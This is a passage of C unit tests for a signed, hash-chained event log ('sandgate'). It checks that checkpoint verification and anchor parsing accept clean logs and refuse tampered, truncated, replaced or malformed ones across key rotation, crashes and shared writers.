	struct ckverify		 v;
	struct lines		 l;
	EVP_PKEY		*old;
	char			 pub[160], next[160], *cause = NULL;

	log = open_signed(t, 0, 60, &ck);
	snprintf(pub, sizeof(pub), "%s.pub", t->key);
	old = pubkey(pub);
	assert_int_equal(checkpoint_write(ck, "open"), 0);
	append_n(log, 0, 2);
	assert_int_equal(checkpoint_write(ck, "close"), 0);
	checkpoint_free(ck);
	snprintf(next, sizeof(next), "%s.next", t->key);
	assert_int_equal(checkpoint_key_create(next, (uid_t)-1, (gid_t)-1,
	    &cause), 0);
	ck = checkpoint_new(log, &o, &cause);
	assert_non_null(ck);
	assert_int_equal(checkpoint_write(ck, "open"), 0);
	append_n(log, 2, 2);
	assert_int_equal(checkpoint_write(ck, "close"), 0);
	checkpoint_free(ck);
	eventlog_close(log);
	lines_read(&l, t->path);
	/* open, 2, close, key, open, 2, close */
	assert_int_equal(l.n, 9);
	assert_non_null(strstr(l.v[4], "\"reason\":\"key\""));
	assert_non_null(strstr(l.v[5], "\"reason\":\"open\""));
	lines_free(&l);
	assert_int_equal(verify(t->path, old, NULL, now_us(), &v),
	    CKVERIFY_OK);
	if (v.stops != 0 || v.restarts != 0)
		fail_msg("a clean restart with a key rotation noted %zu "
		    "stop(s) and %zu restart(s)", v.stops, v.restarts);
	EVP_PKEY_free(old);
}

/* A retired key signing on, and a restart in the middle of a rotation. */
static void
test_retired_key(void **state)
{
	struct tmp		*t = *state;
	struct checkpoint_opts	 o = { .key_path = t->key, .every_secs = 60 };
	struct checkpoint	*ck;
	struct eventlog		*log;
	struct ckverify		 v;
	EVP_PKEY		*old;
	char			 pub[160], next[160], keep[160], keepnext[160];
	char			*cause = NULL, cmd[1024];

	log = open_signed(t, 0, 60, &ck);
	snprintf(pub, sizeof(pub), "%s.pub", t->key);
	old = pubkey(pub);
	snprintf(next, sizeof(next), "%s.next", t->key);
	snprintf(keep, sizeof(keep), "%s/old.copy", t->keys);
	snprintf(keepnext, sizeof(keepnext), "%s/next.copy", t->keys);
	snprintf(cmd, sizeof(cmd), "cp -p %s %s", t->key, keep);
	assert_int_equal(system(cmd), 0);
	assert_int_equal(checkpoint_key_create(next, (uid_t)-1, (gid_t)-1,
	    &cause), 0);
	snprintf(cmd, sizeof(cmd), "cp -p %s %s", next, keepnext);
	assert_int_equal(system(cmd), 0);
	assert_int_equal(checkpoint_write(ck, "open"), 0);	/* rotates */
	append_n(log, 0, 2);
	checkpoint_free(ck);	/* "crash": no close */
	/* A restart that finds the old key and the next one again. */
	snprintf(cmd, sizeof(cmd), "cp -p %s %s && cp -p %s %s", keep,
	    t->key, keepnext, next);
	assert_int_equal(system(cmd), 0);
	ck = checkpoint_new(log, &o, &cause);
	assert_non_null(ck);
	assert_int_equal(checkpoint_write(ck, "open"), 0);
	append_n(log, 2, 1);
	assert_int_equal(checkpoint_write(ck, "close"), 0);
	checkpoint_free(ck);
	assert_int_equal(verify(t->path, old, NULL, now_us(), &v),
	    CKVERIFY_OK);
	assert_int_equal(v.reintroduced, 1);
	assert_int_equal(v.restarts, 1);
	assert_int_equal(v.restart_from, 3);
	/* The old key signing an ordinary checkpoint after the handover. */
	snprintf(cmd, sizeof(cmd), "cp -p %s %s", keep, t->key);
	assert_int_equal(system(cmd), 0);
	ck = checkpoint_new(log, &o, &cause);
	assert_non_null(ck);
	append_n(log, 3, 1);
	assert_int_equal(checkpoint_write(ck, "close"), 0);
	checkpoint_free(ck);
	eventlog_close(log);
	assert_int_equal(verify(t->path, old, NULL, now_us(), &v),
	    CKVERIFY_UNTRUSTED);
	assert_non_null(strstr(v.what, "which handed over to key"));
	assert_int_equal(v.untrusted.seq, v.fail_at.seq - 1);
	EVP_PKEY_free(old);
}

/* Replace the first from in *slot by to. */
static void
edit_line(char **slot, const char *from, const char *to)
{
	char	*p = strstr(*slot, from), *line;
	size_t	 n;

	assert_non_null(p);
	n = strlen(*slot) + strlen(to) + 1;
	line = malloc(n);
	assert_non_null(line);
	snprintf(line, n, "%.*s%s%s", (int)(p - *slot), *slot, to,
	    p + strlen(from));
	free(*slot);
	*slot = line;
}

/* Checkpoint lines edited with fresh hashes: each is refused as such. */
static void
test_malformed(void **state)
{
	static const struct {
		const char	*from, *to, *what;
	} edits[] = {
		{ "\"reason\":\"timer\"", "\"reason\":\"later\"",
		    "unknown reason" },
		{ "\"every_secs\":60", "\"every_secs\":600",
		    "does not verify" },
		{ "\"every_secs\":60", "\"every_secs\":-1",
		    "not a count" },
		{ "\"next_key\":null", "\"next_key\":\"x\"",
		    "next_key is set" },
		{ "\"event\":\"log.checkpoint\"",
		    "\"event\":\"log.checkpoint\",\"x\":1",
		    "members missing or added" },
		{ "\"sig\":\"", "\"sig\":\"A", "not a base64 Ed25519 sig" },
		{ "\"key\":\"", "\"key\":\"A", "not a base64 Ed25519 public" },
		{ "\"ts\":\"", "\"ts\":\"1", "ts is not a time" },
	};
	struct tmp		*t = *state;
	struct ckverify		 v;
	struct lines		 l;
	EVP_PKEY		*k;
	char			*orig;
	size_t			 i;

	k = signed_log(t, 0, 2, "timer");
	lines_read(&l, t->path);
	assert_int_equal(l.n, 4);
	orig = strdup(l.v[3]);
	for (i = 0; i < sizeof(edits) / sizeof(edits[0]); i++) {
		free(l.v[3]);
		l.v[3] = strdup(orig);
		edit_line(&l.v[3], edits[i].from, edits[i].to);
		rechain(&l, 3);
		lines_write(&l, t->path, 0, l.n);
		if (verify(t->path, k, NULL, now_us(), &v) !=
		    CKVERIFY_UNTRUSTED || strstr(v.what, edits[i].what) == NULL)
			fail_msg("edit %zu: %s", i, v.what);
		assert_int_equal(v.untrusted.seq, 2);
		assert_int_equal(v.fail_at.line, 4);
	}
	free(l.v[3]);
	l.v[3] = orig;
	lines_write(&l, t->path, 0, l.n);
	assert_int_equal(verify(t->path, k, NULL, now_us(), &v), CKVERIFY_OK);
	lines_free(&l);
	EVP_PKEY_free(k);
}

/*
 * Shared mode, as the controller writes runs.jsonl: four processes each
 * append records and close with a checkpoint under the shared key lock.
 */
/*
 * What one sandgate exec does to runs.jsonl: open it shared, sign (the
 * signer holds the log), append record n, close with a checkpoint. 0 or
 * -1.
 */
static int
shared_record(struct tmp *t, int n)
{
	struct eventlog_opts	 lo = { .shared = 1 };
	struct checkpoint_opts	 o = { .key_path = t->key,
				    .lock = CHECKPOINT_LOCK_SHARED };
	struct checkpoint	*ck;
	struct eventlog		*log;
	char			*cause = NULL;
	int			 rc;

	log = eventlog_open(t->dir, NAME, &lo, &cause);
	ck = log ? checkpoint_new(log, &o, &cause) : NULL;
	free(cause);
	if (ck == NULL) {
		eventlog_close(log);
		return -1;
	}
	append_n(log, n, 1);
	rc = checkpoint_write(ck, "close");
	checkpoint_free(ck);
	eventlog_close(log);
	return rc;
}

static void
test_shared(void **state)
{
	struct tmp		*t = *state;
	struct ckverify		 v;
	EVP_PKEY		*k;
	char			 pub[160], *cause = NULL;
	pid_t			 pids[4];
	int			 i, j, status;

	assert_int_equal(checkpoint_key_create(t->key, (uid_t)-1, (gid_t)-1,
	    &cause), 0);
	for (i = 0; i < 4; i++) {
		pids[i] = fork();
		assert_true(pids[i] != -1);
		if (pids[i] != 0)
			continue;
		for (j = 0; j < 25; j++)
			if (shared_record(t, i * 100 + j) == -1)
				_exit(1);
		_exit(0);
	}
	for (i = 0; i < 4; i++) {
		assert_int_equal(waitpid(pids[i], &status, 0), pids[i]);
		assert_true(WIFEXITED(status));
		assert_int_equal(WEXITSTATUS(status), 0);
	}
	snprintf(pub, sizeof(pub), "%s.pub", t->key);
	k = pubkey(pub);
	if (verify(t->path, k, NULL, now_us(), &v) != CKVERIFY_OK)
		fail_msg("%s:%zu: %s", v.fail_at.file, v.fail_at.line, v.what);
	assert_int_equal(v.chain.events, 200);
	assert_int_equal(v.good, 100);
	EVP_PKEY_free(k);
}

/* The anchor line as the writer writes it, and what the parser refuses. */
static void
test_anchor_parse(void **state)
{
#define A_HASH	"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
#define A_KEY	"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA="
#define A_TS	"2026-01-02T03:04:05.678901Z"
	static const char good[] = "sandgate-anchor-v1 seq=7 hash=" A_HASH
	    " reason=close ts=" A_TS " key=" A_KEY "\n";
	static const char *const bad[] = {
		"",
		"sandgate-anchor-v1",
		"sandgate-anchor-v2 seq=7 hash=" A_HASH " reason=close ts=" A_TS
		    " key=" A_KEY,
		"sandgate-anchor-v1 seq=0 hash=" A_HASH " reason=close ts=" A_TS
		    " key=" A_KEY,
		"sandgate-anchor-v1 seq=-1 hash=" A_HASH " reason=close ts="
		    A_TS " key=" A_KEY,
		"sandgate-anchor-v1 seq=7 hash=" A_HASH "a reason=close ts="
		    A_TS " key=" A_KEY,
		"sandgate-anchor-v1 seq=7 hash=A" A_HASH " reason=close ts="
		    A_TS " key=" A_KEY,
		"sandgate-anchor-v1 seq=7 hash=" A_HASH " reason=shut ts=" A_TS
		    " key=" A_KEY,
		"sandgate-anchor-v1 seq=7 hash=" A_HASH " reason=close "
		    "ts=2026-01-02 key=" A_KEY,
		"sandgate-anchor-v1 seq=7 hash=" A_HASH " reason=close ts=" A_TS
		    " key=AAAA",
		"sandgate-anchor-v1 seq=7 hash=" A_HASH " reason=close ts=" A_TS
		    " key=" A_KEY " ",
		"sandgate-anchor-v1 seq=7 hash=" A_HASH " reason=close ts=" A_TS
		    " key=" A_KEY " more=1",
		"sandgate-anchor-v1 seq=7 hash=" A_HASH " reason=close ts=" A_TS
		    " key=" A_KEY " first=0",
		"sandgate-anchor-v1 seq=7 hash=" A_HASH " reason=close ts=" A_TS
		    " key=" A_KEY " first=9007199254740992",
		"sandgate-anchor-v1 seq=7 hash=" A_HASH " reason=close ts=" A_TS
		    " key=" A_KEY " first=3 first=4",
		"sandgate-anchor-v1 seq=7 hash=" A_HASH " reason=close ts=" A_TS
		    " key=" A_KEY " files=2:" A_HASH,
		"sandgate-anchor-v1 seq=7 hash=" A_HASH " reason=close ts=" A_TS
		    " key=" A_KEY " first=3 files=2",
		"sandgate-anchor-v1 seq=7 hash=" A_HASH " reason=close ts=" A_TS
		    " key=" A_KEY " first=3 files=2:xyz",
		"sandgate-anchor-v1 seq=7 hash=" A_HASH " reason=close ts=" A_TS
		    " key=" A_KEY " first=3 files=100001:" A_HASH,
		"sandgate-anchor-v1 seq=7 hash=" A_HASH " reason=close ts=" A_TS
		    " key=" A_KEY " first=3 files=-1:" A_HASH,
		"sandgate-anchor-v1 seq=7 hash=" A_HASH " reason=close ts=" A_TS
		    " key=" A_KEY " first=3 files=1:" A_HASH " files=1:" A_HASH,
		"sandgate-anchor-v1 hash=" A_HASH " seq=7 reason=close ts=" A_TS
		    " key=" A_KEY,
		"sandgate-anchor-v1 seq=7 hash=" A_HASH " reason=close ts=" A_TS
		    " key=" A_KEY " lost=0 since=" A_TS " cause=x",
		"sandgate-anchor-v1 seq=7 hash=" A_HASH " reason=close ts=" A_TS
		    " key=" A_KEY " lost=2 cause=x",
		"sandgate-anchor-v1 seq=7 hash=" A_HASH " reason=close ts=" A_TS
		    " key=" A_KEY " lost=2 since=yesterday cause=x",
		"sandgate-anchor-v1 seq=7 hash=" A_HASH " reason=close ts=" A_TS
		    " key=" A_KEY " lost=2 since=" A_TS " cause=",
		"sandgate-anchor-v1 seq=7 hash=" A_HASH " reason=close ts=" A_TS
		    " key=" A_KEY " lost=2 since=" A_TS " cause=" A_HASH A_HASH,
		"sandgate-anchor-v1 seq=7 hash=" A_HASH " reason=close ts=" A_TS
		    " key=" A_KEY " lost=2 since=" A_TS " cause=caf\xc3",
		"sandgate-anchor-v1 seq=7 hash=" A_HASH " reason=close ts=" A_TS
		    " key=" A_KEY "\nsandgate-anchor-v1",
		"sandgate-anchor-v1 seq=7 hash=" A_HASH " reason=open ts=" A_TS
		    " key=" A_KEY " reopened=1",
		"sandgate-anchor-v1 seq=7 hash=" A_HASH " reason=close ts=" A_TS
		    " key=" A_KEY " reopened=0",
		"sandgate-anchor-v1 seq=7 hash=" A_HASH " reason=close ts=" A_TS
		    " key=" A_KEY " first=3 reopened=1",
		"sandgate-anchor-v1 seq=7 hash=" A_HASH " reason=close ts=" A_TS
		    " key=" A_KEY " reopened=1 reopened=1",
	};
	struct checkpoint_anchor	 a;
	const char			*what;
	size_t				 i;

	assert_int_equal(checkpoint_anchor_parse(good, strlen(good), &a,
	    &what), 0);
	assert_int_equal(a.seq, 7);
	assert_string_equal(a.hash, A_HASH);
	assert_string_equal(a.reason, "close");
	assert_string_equal(a.ts, A_TS);
	assert_string_equal(a.key, A_KEY);
	assert_int_equal(a.first, 0);
	assert_false(a.reopened);
	assert_int_equal(checkpoint_anchor_parse("sandgate-anchor-v1 seq=7 "
	    "hash=" A_HASH " reason=close ts=" A_TS " key=" A_KEY " reopened=1 "
	    "first=3", strlen(good) + 18, &a, &what), 0);
	assert_true(a.reopened);
	assert_int_equal(a.first, 3);
	assert_int_equal(checkpoint_anchor_parse("sandgate-anchor-v1 seq=7 "
	    "hash=" A_HASH " reason=close ts=" A_TS " key=" A_KEY " first=3",
	    strlen(good) + 7, &a, &what), 0);
	assert_int_equal(a.first, 3);
	assert_false(a.reopened);
	assert_false(a.have_files);
	assert_int_equal(checkpoint_anchor_parse("sandgate-anchor-v1 seq=7 "
	    "hash=" A_HASH " reason=close ts=" A_TS " key=" A_KEY " first=3 "
	    "files=12:" A_HASH, strlen(good) + 7 + 74, &a, &what), 0);
	assert_true(a.have_files);
	assert_int_equal(a.files, 12);
	assert_string_equal(a.files_hash, A_HASH);
	assert_int_equal(a.lost, 0);
	assert_int_equal(checkpoint_anchor_parse("sandgate-anchor-v1 seq=7 "
	    "hash=" A_HASH " reason=close ts=" A_TS " key=" A_KEY " first=3 "
	    "files=12:" A_HASH " lost=9 since=" A_TS " cause=cannot write "
	    "\"x\": No space", strlen(good) + 7 + 74 + 74, &a, &what), 0);
	assert_int_equal(a.lost, 9);
	assert_string_equal(a.since, A_TS);
	assert_string_equal(a.cause, "cannot write \"x\": No space");
	for (i = 0; i < sizeof(bad) / sizeof(bad[0]); i++)
		if (checkpoint_anchor_parse(bad[i], strlen(bad[i]), &a,
		    &what) != -1 || what == NULL)
			fail_msg("bad anchor %zu accepted: %s", i, bad[i]);
	/* A NUL byte inside. */
	assert_int_equal(checkpoint_anchor_parse(good, sizeof(good), &a,
	    &what), -1);
}

/* ckverify over files (oldest first) with one key and an anchor. */
static enum ckverify_result
verify_with(const char *const *paths, size_t n, EVP_PKEY *k,
    const struct checkpoint_anchor *anchor, struct ckverify *v)
{
	struct lines		l;
	enum ckverify_result	r;
	size_t			i, j;

	ckverify_init(v);
	if (k != NULL)
		assert_int_equal(ckverify_add_key(v, k), 0);
	if (anchor != NULL)
		ckverify_set_anchor(v, anchor);
	for (j = 0; j < n; j++) {
		lines_read(&l, paths[j]);
		ckverify_file(v, paths[j]);
		for (i = 0; i < l.n; i++)
			ckverify_feed(v, l.v[i], strlen(l.v[i]));
		lines_free(&l);
	}
	r = ckverify_finish(v, now_us());
	ckverify_release(v);
	return r;
}

/* The writer's anchor as it is on disk. */
/*
 * reopened= and tail=: a bad value is named, not taken for members out
 * of order; tail only after reopened=1, and after the close's seq.
 */
static void
test_anchor_parse_reopened(void **state)
{
#define A_HEAD	"sandgate-anchor-v1 seq=7 hash=" A_HASH " reason=close ts=" \
		A_TS " key=" A_KEY
	static const struct {
		const char	*line;
		const char	*what;
	} bad[] = {
		{ A_HEAD " reopened=0", "reopened is not 1" },
		{ A_HEAD " reopened=2", "reopened is not 1" },
		{ A_HEAD " reopened=11", "reopened is not 1" },
		{ A_HEAD " reopened=", "reopened is not 1" },
		{ A_HEAD " reopened=1 tail=8", "tail is not a seq" },
		{ A_HEAD " reopened=1 tail=8:xyz", "tail is not a seq" },
		{ A_HEAD " reopened=1 tail=0:" A_HASH, "tail is not a seq" },
		{ A_HEAD " reopened=1 tail=6:" A_HASH, "tail is before" },
		{ A_HEAD " tail=8:" A_HASH, "members missing" },
		{ A_HEAD " reopened=1 reopened=1", "members missing" },
		{ A_HEAD " reopened=1 tail=8:" A_HASH " torn=0:" A_HASH,
		    "torn is not a count" },
		{ A_HEAD " reopened=1 tail=8:" A_HASH " torn=2", "torn is not" },
		{ A_HEAD " reopened=1 torn=2:" A_HASH, "members missing" },
	};
	struct checkpoint_anchor	 a;
	const char			*what, *good;
	size_t				 i;

	(void)state;
	for (i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		if (checkpoint_anchor_parse(bad[i].line, strlen(bad[i].line),
		    &a, &what) != -1)
			fail_msg("taken: %s", bad[i].line);
		if (strstr(what, bad[i].what) == NULL)
			fail_msg("%s: %s", bad[i].line, what);
	}
	good = A_HEAD " reopened=1 tail=9:" A_HASH " first=3";
	assert_int_equal(checkpoint_anchor_parse(good, strlen(good), &a,
	    &what), 0);
	assert_true(a.reopened);
	assert_int_equal(a.tail_seq, 9);
	assert_string_equal(a.tail_hash, A_HASH);
	assert_int_equal(a.first, 3);
	assert_int_equal(a.torn, 0);
	assert_false(a.have_torn);	/* an older writer's: found ones */
	/* None left after the tail (atk20r22 F1). */
	good = A_HEAD " reopened=1 tail=9:" A_HASH " " CHECKPOINT_TORN_NONE
	    " first=3";
	assert_int_equal(checkpoint_anchor_parse(good, strlen(good), &a,
	    &what), 0);
	assert_true(a.have_torn);
	assert_int_equal(a.torn, 0);
	assert_string_equal(a.torn_hash, "");
	assert_int_equal(a.first, 3);
	/* The torn lines its writer left after the tail (atk20r20 F5). */
	good = A_HEAD " reopened=1 tail=9:" A_HASH " torn=2:" A_HASH
	    " first=3";
	assert_int_equal(checkpoint_anchor_parse(good, strlen(good), &a,
	    &what), 0);
	assert_int_equal(a.torn, 2);
	assert_string_equal(a.torn_hash, A_HASH);
#undef A_HEAD
}
#undef A_HASH
#undef A_KEY
#undef A_TS

/* No log, no key, no anchor: the next round of a test starts afresh. */
static void
start_afresh(struct tmp *t)
{
	unlink(t->path);
	rm_dir(t->keys);
	assert_int_equal(mkdir(t->keys, 0700), 0);
}

static void
anchor_of(struct tmp *t, struct checkpoint_anchor *a)
{
	char	path[160], *cause = NULL;

	snprintf(path, sizeof(path), "%s.anchor", t->key);
	if (checkpoint_anchor_read(path, a, &cause) != 1)
		fail_msg("anchor: %s", cause ? cause : "none");
}

/*
 * Lines planted after the writer's close: the writer that opens the log
 * again records them (log.resume) before it signs; verify names the first.
 */
static void
test_resume_after_close(void **state)
{
	struct tmp		*t = *state;
	struct checkpoint	*ck;
	struct checkpoint_anchor a;
	struct eventlog		*log;
	struct ckverify		 v;
	struct lines		 l;
	EVP_PKEY		*k;

	k = signed_log(t, 100, 5, "close");	/* open 1, 5 events, close 7 */
	anchor_of(t, &a);
	assert_int_equal(a.seq, 7);
	assert_string_equal(a.reason, "close");
	log = eventlog_open(t->dir, NAME, NULL, NULL);
	append_n(log, 50, 2);			/* seq 8, 9 */
	eventlog_close(log);
	log = open_signed(t, 100, 60, &ck);
	assert_int_equal(checkpoint_write(ck, "open"), 0);
	assert_int_equal(checkpoint_write(ck, "close"), 0);
	checkpoint_free(ck);
	eventlog_close(log);
	lines_read(&l, t->path);
	assert_int_equal(l.n, 12);
	assert_non_null(strstr(l.v[9], "\"event\":\"log.resume\","
	    "\"anchor_seq\":7,"));
	assert_non_null(strstr(l.v[9], "\"found_seq\":9,"));
	assert_non_null(strstr(l.v[10], "\"reason\":\"open\""));
	lines_free(&l);
	assert_int_equal(verify(t->path, k, NULL, now_us(), &v),
	    CKVERIFY_UNTRUSTED);
	assert_int_equal(v.untrusted.seq, 8);
	assert_int_equal(v.untrusted.line, 8);
	assert_non_null(strstr(v.what, "follow the writer's close"));
	EVP_PKEY_free(k);
}

/*
 * A writer (a child) that writes its open and 3 events (then, with timer,
 * a timer checkpoint and 2 more) and stops without closing; torn, if not
 * NULL, is then appended (it was killed in a write); the next writer
 * opens and closes the log.
 */
static void	crash_rotate_close(struct tmp *, int, const char *, int);
static void	crash_torn(struct tmp *, int, const char *);
static void	open_close(struct tmp *, int);

static void
crash_then_close(struct tmp *t, int timer, const char *torn)
{
	crash_rotate_close(t, timer, torn, 0);
}

/*
 * crash_then_close(), with the log renamed to name.1 (rotate) while no
 * writer runs, as logrotate does.
 */
static void
crash_rotate_close(struct tmp *t, int timer, const char *torn, int rotate)
{
	char			 rot[200];

	crash_torn(t, timer, torn);
	snprintf(rot, sizeof(rot), "%s.1", t->path);
	if (rotate)
		assert_int_equal(rename(t->path, rot), 0);
	open_close(t, 0);
}

/*
 * A writer that opens the log, signs its open, appends n events and
 * closes it.
 */
static void
open_close(struct tmp *t, int n)
{
	struct checkpoint	*ck;
	struct eventlog		*log;

	log = open_signed(t, 100, 60, &ck);
	assert_int_equal(checkpoint_write(ck, "open"), 0);
	append_n(log, 70, n);
	assert_int_equal(checkpoint_write(ck, "close"), 0);
	checkpoint_free(ck);
	eventlog_close(log);
}

/*
 * A writer that opens the log and appends 3 events (a timer checkpoint
 * and 2 more with timer) and crashes; torn (or NULL): the bytes a write
 * it was killed in left.
 */
static void
crash_torn(struct tmp *t, int timer, const char *torn)
{
	struct checkpoint	*ck;
	struct eventlog		*log;
	pid_t			 pid;
	int			 status;

	if ((pid = fork()) == 0) {
		log = open_signed(t, 100, 60, &ck);
		if (checkpoint_write(ck, "open") == -1)
			_exit(1);
		append_n(log, 0, 3);
		if (timer && checkpoint_write(ck, "timer") == -1)
			_exit(2);
		if (timer)
			append_n(log, 3, 2);
		_exit(0);			/* no close: a crash */
	}
	assert_int_equal(waitpid(pid, &status, 0), pid);
	assert_int_equal(WEXITSTATUS(status), 0);
	if (torn != NULL)
		append_raw(t->path, torn);
}

/*
 * A writer that stopped without closing: the next one records where its
 * anchored checkpoint was, and verify takes it for what it is (a note).
 */
static void
test_resume_after_crash(void **state)
{
	struct tmp		*t = *state;
	struct ckverify		 v;
	EVP_PKEY		*k;
	char			 pub[160];

	crash_then_close(t, 1, NULL);
	snprintf(pub, sizeof(pub), "%s.pub", t->key);
	k = pubkey(pub);
	if (verify(t->path, k, NULL, now_us(), &v) != CKVERIFY_OK)
		fail_msg("%s", v.what);
	assert_int_equal(v.crashes, 1);
	assert_int_equal(v.crash.line, 8);
	EVP_PKEY_free(k);
}

/*
 * A log cut at an older close: the anchor tells; the writer that opens it
 * records it too.
 */
static void
test_resume_cut(void **state)
{
	struct tmp		*t = *state;
	struct checkpoint	*ck;
	struct checkpoint_anchor a;
	struct eventlog		*log;
	struct ckverify		 v;
	struct lines		 l;
	const char		*paths[1] = { t->path };
	EVP_PKEY		*k;

	k = signed_log(t, 100, 5, "close");	/* close at 7 */
	log = open_signed(t, 100, 60, &ck);
	assert_int_equal(checkpoint_write(ck, "open"), 0);
	append_n(log, 10, 2);
	assert_int_equal(checkpoint_write(ck, "close"), 0);	/* 11 */
	checkpoint_free(ck);
	eventlog_close(log);
	anchor_of(t, &a);
	assert_int_equal(a.seq, 11);
	assert_int_equal(verify_with(paths, 1, k, &a, &v), CKVERIFY_OK);
	lines_read(&l, t->path);
	lines_write(&l, t->path, 0, 7);
	lines_free(&l);
	assert_int_equal(verify(t->path, k, NULL, now_us(), &v), CKVERIFY_OK);
	assert_int_equal(verify_with(paths, 1, k, &a, &v),
	    CKVERIFY_UNTRUSTED);
	assert_int_equal(v.untrusted.seq, 8);
	assert_int_equal(v.untrusted.line, 0);
	assert_non_null(strstr(v.what, "were cut"));
	log = open_signed(t, 100, 60, &ck);
	assert_int_equal(checkpoint_write(ck, "close"), 0);
	checkpoint_free(ck);
	eventlog_close(log);
	assert_int_equal(verify(t->path, k, NULL, now_us(), &v),
	    CKVERIFY_UNTRUSTED);
	assert_int_equal(v.untrusted.seq, 8);
	assert_non_null(strstr(v.what, "seq 8 to 11 were cut"));
	EVP_PKEY_free(k);
}

/*
 * Shared writers (runs.jsonl): the file replaced behind their back; the
 * next one records it before its record, holding the log meanwhile.
 */
static void
test_resume_shared(void **state)
{
	struct tmp		*t = *state;
	struct eventlog		*log;
	struct ckverify		 v;
	struct lines		 l;
	EVP_PKEY		*k;
	char			 pub[160], *cause = NULL;

	assert_int_equal(checkpoint_key_create(t->key, (uid_t)-1, (gid_t)-1,
	    &cause), 0);
	assert_int_equal(shared_record(t, 0), 0);
	assert_int_equal(shared_record(t, 1), 0);
	/* Replaced by a chain of its own. */
	unlink(t->path);
	log = eventlog_open(t->dir, NAME, NULL, &cause);
	append_n(log, 90, 2);
	eventlog_close(log);
	assert_int_equal(shared_record(t, 2), 0);
	lines_read(&l, t->path);
	assert_int_equal(l.n, 5);
	assert_non_null(strstr(l.v[2], "\"event\":\"log.resume\","
	    "\"anchor_seq\":4,"));
	assert_non_null(strstr(l.v[2], "\"found_seq\":2,"));
	lines_free(&l);
	snprintf(pub, sizeof(pub), "%s.pub", t->key);
	k = pubkey(pub);
	assert_int_equal(verify(t->path, k, NULL, now_us(), &v),
	    CKVERIFY_UNTRUSTED);
	assert_int_equal(v.untrusted.seq, 1);
	assert_non_null(strstr(v.what, "or the log was replaced"));
	EVP_PKEY_free(k);
}

/*
 * Every file a writer starts begins with a rotate checkpoint: the oldest
 * kept file verifies on its own, a file cut at its front does not.
 */
static void
test_rotate_first_line(void **state)
{
	struct tmp		*t = *state;
	struct eventlog_opts	 lo = { .max_size = 3000, .keep = 2 };
	struct checkpoint_opts	 o = { .key_path = t->key,
				    .every_events = 100, .every_secs = 60 };
	struct checkpoint	*ck;
	struct eventlog		*log;
	struct ckverify		 v;
	struct lines		 l;
	char			 p2[160], p1[160], pub[160], *cause = NULL;
	const char		*paths[3] = { p2, p1, t->path };
	EVP_PKEY		*k;
	size_t			 i;

	assert_int_equal(checkpoint_key_create(t->key, (uid_t)-1, (gid_t)-1,
	    &cause), 0);
	log = eventlog_open(t->dir, NAME, &lo, &cause);
	ck = checkpoint_new(log, &o, &cause);
	assert_non_null(ck);
	assert_int_equal(checkpoint_write(ck, "open"), 0);
	append_n(log, 0, 60);
	assert_int_equal(checkpoint_write(ck, "close"), 0);
	checkpoint_free(ck);
	eventlog_close(log);
	snprintf(p2, sizeof(p2), "%s.2", t->path);
	snprintf(p1, sizeof(p1), "%s.1", t->path);
	snprintf(pub, sizeof(pub), "%s.pub", t->key);
	k = pubkey(pub);
	for (i = 0; i < 3; i++) {
		lines_read(&l, paths[i]);
		assert_non_null(strstr(l.v[0], "\"reason\":\"rotate\""));
		lines_free(&l);
	}
	if (verify_with(paths, 3, k, NULL, &v) != CKVERIFY_OK)
		fail_msg("%s", v.what);
	assert_false(v.chain.genesis);
	lines_read(&l, p2);
	lines_write(&l, p2, 1, l.n);
	lines_free(&l);
	assert_int_equal(verify_with(paths, 3, k, NULL, &v),
	    CKVERIFY_UNTRUSTED);
	assert_non_null(strstr(v.what, "cut from the file"));
	EVP_PKEY_free(k);
}

/* Every key given must sign; an empty log is not a trusted one. */
static void
test_keys_and_empty(void **state)
{
	struct tmp		*t = *state;
	struct ckverify		 v;
	EVP_PKEY		*k, *other;
	FILE			*f;

	k = signed_log(t, 100, 3, "close");
	other = EVP_PKEY_Q_keygen(NULL, NULL, "ED25519");
	assert_non_null(other);
	assert_int_equal(verify(t->path, k, NULL, now_us(), &v), CKVERIFY_OK);
	assert_int_equal(verify(t->path, k, other, now_us(), &v),
	    CKVERIFY_UNTRUSTED);
	assert_non_null(strstr(v.what, "signs no checkpoint"));
	f = fopen(t->path, "w");
	assert_non_null(f);
	fclose(f);
	assert_int_equal(verify(t->path, NULL, NULL, now_us(), &v),
	    CKVERIFY_OK);
	assert_int_equal(verify(t->path, k, NULL, now_us(), &v),
	    CKVERIFY_UNTRUSTED);
	assert_non_null(strstr(v.what, "holds no event"));
	EVP_PKEY_free(other);
	EVP_PKEY_free(k);
}

/*
 * Line idx (from 0) of the log is the writer's log.resume naming
 * anchor_seq: verify with its key fails, saying what, from seq from on.
 */
static void
resumed_untrusted(struct tmp *t, size_t idx, long long anchor_seq,
    const char *what, long long from)
{
	struct ckverify	 v;
	struct lines	 l;
	char		 pub[160], mark[80];
	EVP_PKEY	*k;

	snprintf(mark, sizeof(mark), "\"event\":\"log.resume\","
	    "\"anchor_seq\":%lld,", anchor_seq);
	lines_read(&l, t->path);
	assert_true(idx < l.n);
	assert_non_null(strstr(l.v[idx], mark));
	lines_free(&l);
	snprintf(pub, sizeof(pub), "%s.pub", t->key);
	k = pubkey(pub);
	assert_int_equal(verify(t->path, k, NULL, now_us(), &v),
	    CKVERIFY_UNTRUSTED);
	assert_non_null(strstr(v.what, what));
	assert_int_equal(v.untrusted.seq, from);
	EVP_PKEY_free(k);
}

/*
 * A close after the checkpoint the anchor names (the anchor could not be
 * rewritten: a full volume) and lines planted after that close: the
 * writer that opens the log records them against its stale anchor, and
 * verify refuses them, the close being the writer's own.
 */
static void
test_resume_stale_anchor(void **state)
{
	struct tmp		*t = *state;
	struct checkpoint	*ck;
	struct eventlog		*log;
	struct lines		 l, a;
	char			 anchor[160];

	log = open_signed(t, 100, 60, &ck);
	assert_int_equal(checkpoint_write(ck, "open"), 0);	/* seq 1 */
	snprintf(anchor, sizeof(anchor), "%s.anchor", t->key);
	lines_read(&a, anchor);
	append_n(log, 0, 5);					/* 2 to 6 */
	assert_int_equal(checkpoint_write(ck, "close"), 0);	/* 7 */
	checkpoint_free(ck);
	eventlog_close(log);
	lines_write(&a, anchor, 0, a.n);	/* names the open again */
	lines_free(&a);
	log = eventlog_open(t->dir, NAME, NULL, NULL);
	append_n(log, 50, 2);					/* 8, 9 */
	eventlog_close(log);
	log = open_signed(t, 100, 60, &ck);
